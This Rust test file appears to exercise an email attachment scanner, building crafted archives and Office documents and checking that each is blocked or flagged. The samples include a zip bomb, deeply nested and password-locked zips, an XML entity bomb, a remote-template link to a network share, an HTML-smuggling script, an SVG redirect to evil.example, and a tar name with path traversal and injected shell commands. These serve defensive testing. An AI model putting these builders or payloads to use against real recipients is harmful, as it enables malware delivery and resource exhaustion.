//! Archives and documents: what one program takes out and another does not.

use std::io::{Cursor, Write as _};

use testkit::corpus::archive;
use zip::write::SimpleFileOptions;
use zip::{AesMode, CompressionMethod, ZipWriter};

use super::{BAD, Variant, arrives, check, head, stopped, with_file};

/// Bytes of zeros in the file of the bomb.
const BOMB_BYTES: usize = 4 << 20;
/// Entries that show that file.
const BOMB_ENTRIES: u16 = 900;

fn zip(files: &[(&str, &[u8])], options: SimpleFileOptions) -> Vec<u8> {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes) in files {
        writer.start_file(*name, options).unwrap();
        writer.write_all(bytes).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

fn deflated() -> SimpleFileOptions {
    SimpleFileOptions::default().compression_method(CompressionMethod::Deflated)
}

fn locked(password: &'static str) -> SimpleFileOptions {
    deflated().with_aes_encryption(AesMode::Aes128, password)
}

/// One file of a tar (POSIX.1-1988 ustar), and its end.
fn tar(name: &str, bytes: &[u8]) -> Vec<u8> {
    let mut header = vec![0_u8; 512];
    header[..name.len()].copy_from_slice(name.as_bytes());
    header[100..107].copy_from_slice(b"0000644");
    header[124..135].copy_from_slice(format!("{:011o}", bytes.len()).as_bytes());
    header[136..147].copy_from_slice(b"00000000000");
    header[156] = b'0';
    header[257..263].copy_from_slice(b"ustar\0");
    header[148..156].copy_from_slice(b"        ");
    let sum: u32 = header.iter().map(|byte| u32::from(*byte)).sum();
    header[148..155].copy_from_slice(format!("{sum:06o}\0").as_bytes());
    let mut out = [header, bytes.to_vec()].concat();
    out.resize(out.len().div_ceil(512) * 512 + 1024, 0);
    out
}

/// gzip without packing (RFC 1951 3.2.4), one block.
fn gz(bytes: &[u8]) -> Vec<u8> {
    let length = u16::try_from(bytes.len()).unwrap();
    [
        b"\x1f\x8b\x08\0\0\0\0\0\0\xff\x01".as_slice(),
        &length.to_le_bytes(),
        &(!length).to_le_bytes(),
        bytes,
        &crc32(bytes).to_le_bytes(),
        &u32::from(length).to_le_bytes(),
    ]
    .concat()
}

/// As zip and gzip have it.
fn crc32(bytes: &[u8]) -> u32 {
    !bytes.iter().fold(u32::MAX, |crc, byte| {
        (0..8).fold(crc ^ u32::from(*byte), |crc, _| if crc & 1 == 1 { (crc >> 1) ^ 0xedb8_8320 } else { crc >> 1 })
    })
}

/// One file that packs well, shown by many entries.
fn bomb() -> Vec<u8> {
    let one = zip(&[("z", &vec![0; BOMB_BYTES])], deflated());
    let directory = one.windows(4).rposition(|four| four == b"PK\x01\x02").unwrap();
    let end = one.windows(4).rposition(|four| four == b"PK\x05\x06").unwrap();
    let entry = &one[directory..end];
    let entries = entry.repeat(usize::from(BOMB_ENTRIES));
    let mut tail = one[end..].to_vec();
    tail[8..10].copy_from_slice(&BOMB_ENTRIES.to_le_bytes());
    tail[10..12].copy_from_slice(&BOMB_ENTRIES.to_le_bytes());
    tail[12..16].copy_from_slice(&u32::try_from(entries.len()).unwrap().to_le_bytes());
    [&one[..directory], entries.as_slice(), &tail].concat()
}

fn hidden() -> Vec<Variant> {
    let good = |name: &str| archive(name, b"Minutes of the meeting.\n", false);
    let bad = archive("notes.bin", BAD.as_bytes(), false);
    // The local header says that it is packed, the directory that it is stored, and it is stored.
    let mut method = bad.clone();
    method[8] = 8;
    // The directory names another file than the one that lies there.
    let mut named = bad.clone();
    let at = named.windows(4).rposition(|four| four == b"PK\x01\x02").unwrap();
    named[at + 46] = b'x';
    let mut in_each_other = bad.clone();
    for level in 0..30 {
        in_each_other = archive(&format!("{level}.zip"), &in_each_other, false);
    }
    vec![
        stopped(
            "three archives in a row, the middle one bad",
            with_file("three in a row", "a.zip", &[good("a.txt"), bad.clone(), good("b.txt")].concat()),
            &["archive_ambiguous", "signature_malware"],
        ),
        stopped(
            "an archive in front of which a text stands",
            with_file("a text before", "report.txt", &[b"Report of the year.\n".as_slice(), &bad].concat()),
            &["signature_malware"],
        ),
        stopped(
            "a method that is none",
            with_file("a method", "a.zip", &method),
            &["archive_ambiguous", "signature_malware"],
        ),
        stopped(
            "another name within",
            with_file("a name", "a.zip", &named),
            &["archive_ambiguous", "signature_malware"],
        ),
        stopped(
            "the second member of a gzip of a tar",
            with_file(
                "members",
                "a.tar.gz",
                &[gz(&tar("a.txt", b"Hello.")), gz(&tar("b.bin", BAD.as_bytes()))].concat(),
            ),
            &["signature_malware"],
        ),
        stopped("thirty archives in each other", with_file("thirty", "a.zip", &in_each_other), &["unscannable"]),
        stopped("nine hundred names of one file", with_file("names", "a.zip", &bomb()), &["archive_bomb"]),
    ]
}

fn encrypted() -> Vec<Variant> {
    let bad: [(&str, &[u8]); 1] = [("notes.bin", BAD.as_bytes())];
    vec![
        stopped(
            "a password in the subject",
            with_file("Offer, password Winter-77", "offer.zip", &zip(&bad, locked("Winter-77"))),
            &["signature_malware"],
        ),
        stopped(
            "a password in the name of the file",
            with_file("named", "offer_pw-Zr44kk.zip", &zip(&bad, locked("Zr44kk"))),
            &["signature_malware"],
        ),
        stopped(
            "a password that is said elsewhere",
            with_file("elsewhere", "offer.zip", &zip(&bad, locked("never-said-55"))),
            &["encrypted_archive"],
        ),
    ]
}

/// A document of Word with one more file in it.
fn docx(document: &str, more: (&str, &str)) -> Vec<u8> {
    let types = "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default \
        Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/><Default Extension=\"xml\" \
        ContentType=\"application/xml\"/><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-\
        officedocument.wordprocessingml.document.main+xml\"/></Types>";
    let relations = "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">\
        <Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" \
        Target=\"word/document.xml\"/></Relationships>";
    let files: [(&str, &[u8]); 4] = [
        ("[Content_Types].xml", types.as_bytes()),
        ("_rels/.rels", relations.as_bytes()),
        ("word/document.xml", document.as_bytes()),
        (more.0, more.1.as_bytes()),
    ];
    zip(&files, deflated())
}

const WORD: &str = "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r><w:t>\
    Minutes.</w:t></w:r></w:p></w:body></w:document>";

fn documents() -> Vec<Variant> {
    let none = ("docProps/x.xml", "<x/>");
    let bomb = format!(
        "<?xml version=\"1.0\"?><!DOCTYPE w [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;\">]>{WORD}"
    );
    let template = "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">\
        <Relationship Id=\"r9\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" \
        Target=\"\\\\198.51.100.7\\share\\t.dotm\" TargetMode=\"External\"/></Relationships>";
    let smuggling = format!(
        "<html><body><script>var d=atob('{}');var b=new Blob([d]);var a=document.createElement('a');\
         a.href=URL.createObjectURL(b);a.download='invoice.iso';document.body.appendChild(a);a.click();</script></body></html>",
        "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAA".repeat(40)
    );
    let drawing = "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>location='http://evil.example/s'</script></svg>";
    vec![
        stopped("entities in a document", with_file("entities", "a.docx", &docx(&bomb, none)), &["xml_dtd"]),
        stopped(
            "a template on a share",
            with_file("template", "a.docx", &docx(WORD, ("word/_rels/settings.xml.rels", template))),
            &["remote_template"],
        ),
        stopped(
            "smuggling in a zip",
            with_file("smuggling", "a.zip", &archive("invoice.htm", smuggling.as_bytes(), false)),
            &["html_smuggling"],
        ),
        stopped(
            "a script in a drawing in a zip",
            with_file("drawing", "a.zip", &archive("logo.svg", drawing.as_bytes(), false)),
            &["script_attachment"],
        ),
        arrives("a document", with_file("a document", "a.docx", &docx(WORD, none)), &[]),
    ]
}

fn honest() -> Vec<Variant> {
    let two = zip(&[("a.txt", b"Minutes.\n".as_slice()), ("b/c.csv", b"chairs;20\n")], deflated());
    let paths = tar("../../tmp/$(touch x);`id`.txt", b"Minutes of the meeting.\n");
    vec![
        arrives("two files in a zip", with_file("two files", "a.zip", &two), &[]),
        arrives("a tar in a gzip", with_file("a tar", "a.tar.gz", &gz(&tar("a.txt", b"Minutes.\n"))), &[]),
        arrives("names that are paths and commands", with_file("paths", "a.tar", &paths), &["path_name"]),
        arrives(
            "an open letter with a password",
            format!("{}\r\nThe password of the door is 4711.\r\n", head("The door")),
            &[],
        ),
    ]
}

#[tokio::test(flavor = "multi_thread")]
async fn containers() {
    check([hidden(), encrypted(), documents(), honest()].into_iter().flatten().collect()).await;
}
